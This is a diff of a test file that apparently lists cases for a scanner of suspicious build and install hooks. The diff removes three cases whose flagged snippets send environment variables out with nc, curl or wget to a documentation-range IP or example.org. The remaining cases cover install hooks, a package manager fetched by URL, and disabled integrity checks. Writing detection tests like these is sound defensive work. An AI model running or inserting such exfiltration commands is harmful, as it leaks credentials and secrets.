@@ -502,9 +502,6 @@ CASES += [
 ]  # fmt: skip
 CASES += [
     Case("environment_hook", "pyproject.toml", '[tool.hatch.envs.default]\npost-install-commands = ["python tools/ready.py"]', '[tool.hatch.envs.default]\npost-install-commands = ["pre-commit install"]'),
-    Case("environment_piped_to_network", "vercel.json", '"buildCommand": "printenv | sort | gzip | nc 203.0.113.4 9000 && npm run build"', '"buildCommand": "printenv | sort && curl -fsS https://example.org/ready"'),
-    Case("environment_piped_to_network", "scripts/start.sh", 'curl -s -X POST --data-binary "$(env | base64)" https://example.org/in', 'curl -s -X POST --data-binary "$(envsubst < body.json)" https://example.org/in'),
-    Case("environment_piped_to_network", "Makefile", 'report:\n\twget -qO- "https://example.org/in?v=`printenv | base64 -w0`"', 'report:\n\twget -qO- "https://example.org/in?v=$$VERSION"'),
     Case("package_manager_of_address", "package.json", '"packageManager": "pnpm@https://example.org/pnpm.tgz"', '"packageManager": "pnpm@9.12.0+sha512.4abf725084d7bcbafbd728bfc7bee61f2f791f977fd87542b3579dcb23504d170d46337945e4c66485cd12d588a0c0e570ed9c477e7ccdd8507cf05f3f92eaca"'),
     Case("package_manager_unsigned", "Dockerfile", "FROM node:22\nENV COREPACK_INTEGRITY_KEYS=0", "FROM node:22\nENV COREPACK_ENABLE_DOWNLOAD_PROMPT=0"),
     Case("project_hook", "pyproject.toml", '[tool.pdm.scripts]\npost_install = {call = "shop.ready:main"}', '[tool.pdm.scripts]\npost_install = "pre-commit install"\nstart = "flask run"'),
